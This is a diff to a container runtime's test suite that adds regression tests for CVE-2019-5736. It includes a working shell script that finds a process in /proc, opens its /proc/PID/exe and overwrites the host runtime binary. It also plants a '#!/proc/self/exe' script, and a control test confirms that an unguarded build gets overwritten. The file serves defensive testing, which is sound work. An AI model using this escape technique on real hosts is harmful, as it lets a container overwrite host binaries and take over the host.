@@ -6,6 +6,7 @@
 import {
   chmodSync,
   closeSync,
+  existsSync,
   openSync,
   readFileSync,
   readlinkSync,
@@ -163,14 +164,58 @@ describe('CVE-2019-5736: a container writes to the launcher by /proc/PID/exe', (
     expect(readFileSync(launcher, 'latin1').slice(0, mark.length)).toBe(mark);
   });
 
-  test('the file on the disk is what it was, though an image is made of links to it', (context) => {
+  /*
+   * The way of the original attack: the kernel runs what the first line of a script names, the launcher itself,
+   * inside; another process holds on to the file of that one, and writes to it when it is executed no more. What
+   * the writer found, by the words of its shell.
+   */
+  const writer = `
+    end=$(($(date +%s) + 10))
+    while [ $(date +%s) -lt $end ]; do for p in /proc/[0-9]*; do
+      read -r comm < $p/comm 2>/dev/null || continue
+      [ "$comm" = evil ] || continue
+      {
+        echo >> /shared/held
+        until printf '${mark}' 1<>/proc/self/fd/7; do
+          case $(printf '' 2>&1 1<>/proc/self/fd/7) in *busy*) ;; *) exit 0 ;; esac
+        done 2>/dev/null
+        echo >> /shared/written; exit 0
+      } 7< $p/exe 2>/dev/null
+    done; done`;
+
+  function byScript(runtime: string, enter: (id: string) => void) {
+    const id = testId();
+    const shared = tempDir('shared');
+    const bundle = makeBundle(['/bin/sh', '-c', writer], (spec) => {
+      spec.mounts!.push({ destination: '/shared', type: 'bind', source: shared, options: ['rbind', 'rw'] });
+      // Whoever runs the script is the launcher for a while; a writer that is root inside may write root's files.
+      for (const set of ['bounding', 'effective', 'permitted'] as const)
+        spec.process!.capabilities![set] = ['CAP_DAC_OVERRIDE', 'CAP_SYS_PTRACE'];
+    });
+    writeFileSync(`${bundle}/rootfs/bin/evil`, '#!/proc/self/exe\n', { mode: 0o755 });
+    const words = `${runtime} run --detach --bundle ${bundle} ${id} </dev/null >/dev/null 2>&1`;
+    expect(run('/bin/sh', ['-c', words]).status).toBe(0);
+    const has = (name: string) => existsSync(`${shared}/${name}`);
+    for (let i = 0; i < 40 && !has('held') && !has('written'); i++) enter(id);
+    for (let i = 0; i < 200 && stateIs(id, 'running'); i++) run('sleep', ['0.02']);
+    runTool('ctr-run', ['delete', '--force', id]);
+    return { held: has('held'), written: has('written') };
+  }
+  const stateIs = (id: string, status: string) =>
+    runTool('ctr-run', ['state', id]).stdout.includes(`"status": "${status}"`);
+  const evil = (runtime: string) => (id: string) => void run(runtime, ['exec', id, '/bin/evil']);
+
+  test('a script for /proc/self/exe is no way to the file on the disk', (context) => {
     needs(context, 'root');
     const before = run('sha256sum', [toolPath('ctr-run')]).stdout;
-    const bundle = makeBundle(['/bin/evil']);
-    // The kernel runs what the first line names: the launcher itself, inside (the way of the original attack).
-    writeFileSync(`${bundle}/rootfs/bin/evil`, '#!/proc/self/exe\n', { mode: 0o755 });
-    const ended = run(toolPath('ctr-run'), ['run', '--bundle', bundle, testId()]);
-    expect(ended.status).not.toBe(0);
+    expect(byScript(toolPath('ctr-run'), evil(toolPath('ctr-run')))).toEqual({ held: true, written: false });
     expect(run('sha256sum', [toolPath('ctr-run')]).stdout).toBe(before);
+  });
+
+  test('control: it is where the launcher runs from its file', (context) => {
+    needs(context, 'root');
+    const { launcher, tool } = unguarded('sealing');
+    expect(byScript(tool('ctr-run'), evil(tool('ctr-run')))).toEqual({ held: true, written: true });
+    expect(readFileSync(launcher, 'latin1').slice(0, mark.length)).toBe(mark);
   });
 });
